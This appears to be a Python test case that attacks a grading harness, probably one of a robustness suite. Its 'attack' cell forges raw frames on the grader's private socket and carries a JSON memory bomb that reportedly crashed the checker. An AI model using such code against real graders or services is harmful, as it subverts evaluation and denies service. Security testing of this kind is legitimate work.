"""Sends sixteen megabytes of JSON made of empty lists, which take a gigabyte once they are read.

Covers: A14
Verdict: crashed
"""

# %% attack
import struct

from course_lib.checking import grading

body = b"[" + b"[]," * 5_500_000 + b"[]]"
bodies = [
    body[: 16 << 20],
    b'{"event": "observation", "observation": ' + body[: 15 << 20] + b"]}",
    b'{"event": "done", "outputs": ' + body + b"}",
]


def answer(name):
    def spread(*args, **kwargs):
        body = bodies[len(name) % 3][: 16 << 20]
        grading._channel._socket.sendall(struct.pack(">4sII", b"CNN1", len(body), 0) + body)

    return spread


# %% honest
lists = [[] for _ in range(100_000)]
print(len(lists))
